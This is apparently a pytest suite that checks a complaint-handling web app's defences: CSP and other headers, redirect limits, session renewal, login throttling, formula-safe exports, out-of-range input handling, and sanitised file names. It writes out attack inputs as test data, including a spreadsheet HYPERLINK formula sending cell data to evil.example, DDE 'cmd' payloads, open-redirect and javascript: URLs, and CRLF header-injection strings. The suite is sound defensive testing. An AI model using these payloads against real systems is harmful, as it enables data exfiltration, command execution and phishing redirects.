"""The web's own defences, through the real app: security headers on every route, where `next` may lead,
the session renewed at sign-in, sign-in throttling, exports that cannot run formulas, list pages and
dates out of range, and evidence file names a header can carry."""
from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from werkzeug.routing import IntegerConverter

from engine.bootstrap import DEMO_PASSWORD
from engine.complaints import evidence
from engine.db import UnitOfWork
from tests.conftest import examples
from tests.lifecycle import start
from tests.web.conftest import make_app
from tests.web.test_authorization_matrix import MATRIX, USERS, _Clients, _objects

EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
DDE = "+cmd|' /C calc'!A0"


# --- headers ---------------------------------------------------------------------------------------

def _allowed_role(case) -> str:
    """A role that passes the case's check (a signed-in one where possible, so the view itself answers)."""
    for role in ("agent", "admin", *USERS):
        if role in case.allowed:
            return role
    return "anonymous"


def test_every_route_sends_the_security_headers(app, system, login):
    """Each route of the authorisation matrix, as a role that may use it: CSP, no framing, no sniffing,
    same-origin referrers, and no caching of anything but static files."""
    objects = _objects(app, system)
    clients = _Clients(app, system, login)
    cases = sorted(((endpoint, method, case) for endpoint, by_method in MATRIX.items()
                    for method, case in by_method.items()), key=lambda c: c[0] == "auth.logout")
    problems = []
    for endpoint, method, case in cases:
        role = _allowed_role(case)
        client = clients.api(role) if case.bearer else clients.page(role)
        url = case.url.format(o=objects)
        response = client.open(url, method=method, **(case.body(objects) if case.body else {}))
        headers = response.headers
        seen = f"{method} {url} as {role} ({response.status_code})"
        csp = headers.get("Content-Security-Policy", "")
        directives = dict((d.strip() + " ").split(" ", 1) for d in csp.split(";"))
        relaxed = {"style-src-attr"} if endpoint == "modelling.editor" else set()  # see web.security.EDITOR_CSP
        if directives.get("frame-ancestors", "").strip() != "'none'" or any(
                "'unsafe-" in value for name, value in directives.items() if name not in relaxed):
            problems.append(f"{seen}: CSP {csp!r}")
        # The app's policy, or a stricter one of the view's own (model XML: sandboxed, nothing loads).
        if directives.get("script-src", "").strip() != "'self'" and not (
                "sandbox" in directives and directives.get("default-src", "").strip() == "'none'"):
            problems.append(f"{seen}: CSP {csp!r}")
        for name, value in (("X-Frame-Options", "DENY"), ("X-Content-Type-Options", "nosniff"),
                            ("Referrer-Policy", "same-origin")):
            if headers.get(name) != value:
                problems.append(f"{seen}: {name} {headers.get(name)!r}")
        if endpoint != "static" and "no-store" not in headers.get("Cache-Control", ""):
            problems.append(f"{seen}: Cache-Control {headers.get('Cache-Control')!r}")
    assert problems == [], "\n".join(problems)


def test_pages_carry_no_inline_script_or_style(login, system):
    """The strict CSP would block them: every script and style sheet comes from /static."""
    cid = start(system).complaint_id
    client = login("admin")
    for url in ("/tasks/queue", f"/complaints/{cid}", "/reports", "/search?q=x", "/models/",
                "/account/api-tokens", "/notifications"):
        html = client.get(url).get_data(as_text=True)
        assert "<style" not in html, url
        assert " style=" not in html, url
        assert " onclick=" not in html and " onload=" not in html, url
        for tag in html.split("<script")[1:]:
            head = tag.split(">", 1)[0]
            assert "src=" in head or 'type="application/json"' in head, (url, head)


# --- where `next` may lead ---------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["//evil.example", "/%09/evil.example", "/\t/evil.example", "\\\\evil.example",
                                    "/\\evil.example", "/\n/evil.example", "https://evil.example/",
                                    "/%0a/evil.example", "javascript:alert(1)", "/x\r\nSet-Cookie: a=b"])
def test_next_only_leads_to_this_site(client, target):
    from urllib.parse import quote

    response = client.post(f"/login?next={quote(target, safe='%')}",
                           data={"username": "agent1", "password": DEMO_PASSWORD})
    assert response.status_code == 302
    assert response.headers["Location"] == "/", target


def test_next_keeps_a_path_of_this_site(client):
    response = client.post("/login?next=/search%3Fq%3D%E7%A0%B4", data={"username": "agent1",
                                                                        "password": DEMO_PASSWORD})
    assert response.headers["Location"] == "/search?q=%E7%A0%B4"


# --- the session ------------------------------------------------------------------------------------

def test_signing_in_renews_the_session(client):
    """Whatever the session held before sign-in (a planted value, the old CSRF token) is gone after it;
    the language chosen on the sign-in page stays."""
    client.post("/language", data={"locale": "en", "next": "/login"})
    with client.session_transaction() as session:
        session["planted"] = "by someone else"
        session["csrf_token"] = "old-token"
    response = client.post("/login", data={"username": "agent1", "password": DEMO_PASSWORD})
    assert response.status_code == 302
    with client.session_transaction() as session:
        assert "planted" not in session and session.get("csrf_token") != "old-token"
        assert session["locale"] == "en" and session["_user_id"]


# --- sign-in throttling ------------------------------------------------------------------------------

def _sign_in(client, username: str, password: str, address: str = "10.0.0.1"):
    return client.post("/login", data={"username": username, "password": password},
                       environ_base={"REMOTE_ADDR": address})


def test_failed_sign_ins_are_throttled_per_account_and_address(client):
    for _ in range(5):
        assert _sign_in(client, "agent1", "wrong password").status_code == 200
    refused = _sign_in(client, "agent1", DEMO_PASSWORD)
    assert refused.status_code == 429
    assert refused.headers["Retry-After"] == "60"
    assert "Too many failed sign-ins" in refused.get_data(as_text=True) or "登录失败次数过多" in \
        refused.get_data(as_text=True)
    # Only this account from this address: the same user from elsewhere, another user from here, go in.
    assert _sign_in(client, "agent1", DEMO_PASSWORD, "10.0.0.2").status_code == 302
    assert _sign_in(client, "gm", DEMO_PASSWORD).status_code == 302


def test_successful_sign_ins_are_not_counted(client):
    for _ in range(8):
        assert _sign_in(client, "agent1", DEMO_PASSWORD).status_code == 302


def test_one_address_trying_many_accounts_is_throttled(client):
    for n in range(30):
        assert _sign_in(client, f"nobody{n}", "wrong password", "10.0.0.9").status_code == 200
    assert _sign_in(client, "agent1", DEMO_PASSWORD, "10.0.0.9").status_code == 429
    assert _sign_in(client, "agent1", DEMO_PASSWORD, "10.0.0.10").status_code == 302


@pytest.mark.parametrize(("uri", "clock"), [("database://", "web.db_limits.time"),
                                             ("memory://", "limits.storage.memory.time")])
def test_the_lock_ends_with_the_window(system, monkeypatch, uri, clock):
    """The real user waits a minute at most: a minute later (the storage's clock) they go in. The default
    storage (the database) and memory, which tests may choose explicitly."""
    import time as real_time
    from types import SimpleNamespace

    client = make_app(replace(system, settings=replace(system.settings, ratelimit_storage_uri=uri))).test_client()
    for _ in range(5):
        _sign_in(client, "agent1", "wrong password")
    assert _sign_in(client, "agent1", DEMO_PASSWORD).status_code == 429
    later = real_time.time() + 61
    monkeypatch.setattr(clock, SimpleNamespace(time=lambda: later))
    assert _sign_in(client, "agent1", DEMO_PASSWORD).status_code == 302


def test_throttling_can_use_a_shared_storage(system):
    """RATELIMIT_STORAGE_URI chooses the storage (Redis etc.); the app refuses to start on an unknown one."""
    from limits.errors import ConfigurationError

    with pytest.raises(ConfigurationError):
        make_app(replace(system, settings=replace(system.settings, ratelimit_storage_uri="nosuch://x")))


@pytest.fixture
def redis_uri(tmp_path):
    """A Redis server of this test's own, on a free port (Debian's redis-server)."""
    import shutil
    import socket
    import subprocess
    import time

    binary = shutil.which("redis-server")
    if binary is None:
        pytest.skip("redis-server is not installed")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen([binary, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly",
                               "no", "--dir", str(tmp_path)], stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 10
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                assert time.monotonic() < deadline, "redis-server did not start"
                time.sleep(0.05)
        yield f"redis://127.0.0.1:{port}/0"
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_workers_sharing_redis_count_failures_together(system, redis_uri):
    """Two web workers (two apps) on one Redis: failures in one count in the other, so a guesser cannot
    multiply the limit by spreading over workers. With memory storage (`memory://`) each counts alone."""
    shared = replace(system, settings=replace(system.settings, ratelimit_storage_uri=redis_uri))
    first, second = make_app(shared).test_client(), make_app(shared).test_client()
    for client in (first, second, first, second, first):
        assert _sign_in(client, "agent1", "wrong password").status_code == 200
    assert _sign_in(second, "agent1", DEMO_PASSWORD).status_code == 429
    memory = replace(system, settings=replace(system.settings, ratelimit_storage_uri="memory://"))
    apart = [make_app(memory).test_client() for _ in range(2)]
    for n in range(5):
        assert _sign_in(apart[n % 2], "agent1", "wrong password").status_code == 200
    assert _sign_in(apart[1], "agent1", DEMO_PASSWORD).status_code == 302


def test_a_shared_storage_that_is_down_does_not_stop_sign_in(system):
    """Redis unreachable: sign-in still works, counted in memory meanwhile."""
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # nothing listens here once the probe is closed
    down = replace(system, settings=replace(system.settings, ratelimit_storage_uri=f"redis://127.0.0.1:{port}/0"))
    client = make_app(down).test_client()
    assert _sign_in(client, "agent1", DEMO_PASSWORD).status_code == 302
    for _ in range(5):
        assert _sign_in(client, "gm", "wrong password").status_code == 200
    assert _sign_in(client, "gm", DEMO_PASSWORD).status_code == 429


# --- exports ---------------------------------------------------------------------------------------

def test_exports_never_hold_live_formulas(system, login):
    """Text typed into a complaint comes out as text in the search CSV, the report CSV and the Excel file."""
    start(system, product=EVIL)
    start(system, product=EVIL, description=DDE, customer_name="@SUM(1+1)*cmd|' /C calc'!A0")
    start(system, product="-2+3+cmd|' /C calc'!A0", customer_contact="+86 138 0000 0000")
    client = login("gm")
    search = client.get("/search.csv").get_data(as_text=True).lstrip("\ufeff")
    report = client.get("/reports/export.csv").get_data(as_text=True).lstrip("\ufeff")
    for text in (search, report):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert EVIL not in cells and "'" + EVIL in cells
        assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
        assert not [c for c in cells if c[:1] in ("+", "-") and not set(c) <= set("+-0123456789 ()")]
    assert "+86 138 0000 0000" in search  # a phone number stays as typed
    book = load_workbook(io.BytesIO(client.get("/reports/export.xlsx").data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.value == EVIL and c.data_type == "s"]
    assert not [c for c in cells if c.data_type == "f"]


# --- pages and dates out of range ---------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/search?page={}", "/tasks/queue?page={}", "/notifications?page={}"])
@pytest.mark.parametrize("page", ["99999999999999999999", "1000001", "0", "-1", "1e9", "x", "١"])
def test_a_page_out_of_range_is_a_bad_request(login, url, page):
    assert login("agent1").get(url.format(page)).status_code == 400


@pytest.mark.parametrize("url", ["/search?page=1000000", "/tasks/queue?page=1000000", "/notifications?page=1000000"])
def test_the_last_allowed_page_is_empty(login, url):
    assert login("agent1").get(url).status_code == 200


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "0001-01-02", "9999-12-30"])
def test_dates_at_the_ends_of_the_calendar_are_refused(login, day):
    client = login("gm")
    for query in (f"created_from={day}", f"created_to={day}"):
        page = client.get(f"/search?{query}")
        assert page.status_code == 200 and 'class="error"' in page.get_data(as_text=True)
        assert client.get(f"/search.csv?{query}").status_code == 200
    assert client.get(f"/reports?date={day}").status_code == 422
    assert client.get(f"/reports/export.csv?date={day}").status_code == 422


def test_fuzzed_list_parameters_never_fail(login):
    """Any `page=` and any search or report date: a page or a refusal, never a server error."""
    client = login("gm")

    @settings(max_examples=examples(80))
    @given(page=st.text(max_size=30), day=st.text(max_size=12))
    def check(page, day):
        assert client.get("/search", query_string={"page": page, "created_to": day}).status_code in (200, 400)
        assert client.get("/tasks/mine", query_string={"page": page}).status_code in (200, 400)
        assert client.get("/notifications", query_string={"page": page}).status_code in (200, 400)
        assert client.get("/reports", query_string={"date": day}).status_code in (200, 422)

    check()


@pytest.mark.parametrize("number", ["2147483648", "99999999999999999999"])
def test_an_id_beyond_the_databases_range_is_not_found(app, login, number):
    """Every route that takes an id in its path, with every method, as a manager, the administrator and a process
    owner: a number the id columns cannot hold matches no route (404, or 405 where the path is another route's
    for other methods); it used to reach the database and fail there, a 500."""
    clients = [login("gm"), login("admin"), login("owner")]
    problems = []
    for rule in app.url_map.iter_rules():
        if not [name for name, converter in rule._converters.items() if isinstance(converter, IntegerConverter)]:
            continue
        url = re.sub(r"<(?:int:)?[a-z_]+>", lambda m: number if m[0].startswith("<int:") else "x", rule.rule)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            for client in clients:
                status = client.open(url, method=method).status_code
                if status not in (404, 405):
                    problems.append(f"{method} {url}: {status}")
    assert problems == []
    # the largest id a column holds is still looked up (and found missing)
    assert login("gm").get(f"/complaints/{2**31 - 1}").status_code == 404


def test_ids_in_forms_and_queries_beyond_the_databases_range_are_refused(login):
    owner = login("owner")
    assert owner.get("/models/diff?from=99999999999999999999&to=1").status_code in (400, 404)
    assert owner.post("/models/versions/1/migrate", data={"complaint_id": "99999999999999999999"}).status_code == 400


# --- evidence file names --------------------------------------------------------------------------------

def test_evidence_names_lose_what_a_header_cannot_carry(system, login):
    with UnitOfWork(system.db) as uow:
        cid = start(system).complaint_id
        [stored] = evidence.store_uploads(uow, system.settings, system.actor("agent1"),
                                          [evidence.Upload('a"b;c\r\nSet-Cookie: x=1\u2028.txt', b"notes")], cid)
    with UnitOfWork(system.db, write=False) as uow:
        assert uow.session.get(evidence.Evidence, stored).original_name == "abcSet-Cookie: x=1.txt"
    response = login("agent1").get(f"/evidence/{stored}")
    assert response.status_code == 200 and response.data == b"notes"
    assert "\r" not in response.headers["Content-Disposition"]
    assert "abcSet-Cookie" in response.headers["Content-Disposition"]
    assert "Set-Cookie" not in response.headers


def test_an_old_name_with_a_line_break_can_still_be_downloaded(system, login):
    """Stored before names were cleaned: the download cleans it."""
    with UnitOfWork(system.db) as uow:
        cid = start(system).complaint_id
        [stored] = evidence.store_uploads(uow, system.settings, system.actor("agent1"),
                                          [evidence.Upload("notes.txt", b"notes")], cid)
        uow.session.get(evidence.Evidence, stored).original_name = "call\r\nnotes.txt"
        uow.commit()
    response = login("agent1").get(f"/evidence/{stored}")
    assert response.status_code == 200
    assert "callnotes.txt" in response.headers["Content-Disposition"]
